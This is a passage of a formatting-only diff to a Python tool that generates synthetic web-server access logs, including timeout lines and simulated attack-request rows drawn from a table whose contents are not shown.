     noise = rng.integers(1, 256, size=int(rng.integers(20, 120)), dtype=np.uint8)
     noise[(noise == 0x0A) | (noise == 0x0D)] = 0  # bytes, never a line break
@@ -729,8 +930,12 @@ def _render_block(plan: _Plan, first: int, stop: int, block: int) -> bytes:
     seconds = np.searchsorted(plan.line_second_end, np.arange(first, stop), side="right")
     pieces[:, _TIME] = plan.timestamps[seconds]
 
-    shares = (1 - spec.ipv6_share - spec.mapped_share - spec.hostname_share,
-              spec.ipv6_share, spec.mapped_share, spec.hostname_share)
+    shares = (
+        1 - spec.ipv6_share - spec.mapped_share - spec.hostname_share,
+        spec.ipv6_share,
+        spec.mapped_share,
+        spec.hostname_share,
+    )
     family = _pick(_cumulative(shares), rng, n)
     client = np.empty(n, dtype=np.int64)
     for f, (start, cum) in enumerate(clients.families):
@@ -767,7 +972,7 @@ def _render_block(plan: _Plan, first: int, stop: int, block: int) -> bytes:
     no_body = routes["is_head"][route].copy()
 
     timeout = rng.random(n) < _TIMEOUT_SHARE
-    pieces[timeout, _METHOD:_PROTOCOL + 1] = b""
+    pieces[timeout, _METHOD : _PROTOCOL + 1] = b""
     pieces[timeout, _PATH] = b"-"
     status[timeout] = 408
     referrer[timeout] = plan.referrers["none"].items[0]
@@ -780,9 +985,10 @@ def _render_block(plan: _Plan, first: int, stop: int, block: int) -> bytes:
         pieces[rows, _CLIENT] = plan.attack_client[lo:hi]
         pieces[rows, _USER] = b" - - ["
         pieces[rows, _METHOD] = _ATTACK_TABLE["method"][attack]
-        pieces[rows, _PATH] = [_ATTACK_TABLE["targets"][k][rng.integers(len(_ATTACK_TABLE["targets"][k]))]
-                               for k in attack.tolist()]
-        pieces[rows, _ID:_QUERY + 1] = b""
+        pieces[rows, _PATH] = [
+            _ATTACK_TABLE["targets"][k][rng.integers(len(_ATTACK_TABLE["targets"][k]))] for k in attack.tolist()
+        ]
+        pieces[rows, _ID : _QUERY + 1] = b""
         pieces[rows, _PROTOCOL] = b" HTTP/1.1"
         status[rows] = _STATUS_CODE[_draw(_ATTACK_TABLE["status_cum"][attack], rng)]
         success[rows] = 2300 * np.exp(0.2 * rng.standard_normal(len(rows)))
@@ -810,6 +1016,7 @@ def _render_block(plan: _Plan, first: int, stop: int, block: int) -> bytes:
 
 
 # --- the public functions ------------------------------------------------------------------
+
 
 def generate_lines(spec: LogSpec) -> Iterator[bytes]:
     """The log as blocks of whole lines, each ending in b"\\n"; the same spec gives the same bytes."""
@@ -842,14 +1049,20 @@ def main(argv: Sequence[str] | None = None) -> None:
     for field in dataclasses.fields(LogSpec):
         default = field.default
         convert = datetime.date.fromisoformat if isinstance(default, datetime.date) else type(default)
-        parser.add_argument("--" + field.name.replace("_", "-"), type=convert, default=default,
-                            choices=FORMATS if field.name == "fmt" else None)
+        parser.add_argument(
+            "--" + field.name.replace("_", "-"),
+            type=convert,
+            default=default,
+            choices=FORMATS if field.name == "fmt" else None,
+        )
     args = vars(parser.parse_args(argv))
     path = args.pop("path")
     started = time.perf_counter()
     log = write_log(path, LogSpec(**args))
-    print(f"{log.path}: {log.lines} lines ({log.broken_lines} broken), {log.size_bytes} bytes, "
-          f"{time.perf_counter() - started:.1f} s")
+    print(
+        f"{log.path}: {log.lines} lines ({log.broken_lines} broken), {log.size_bytes} bytes, "
+        f"{time.perf_counter() - started:.1f} s"
+    )
 
 
 if __name__ == "__main__":
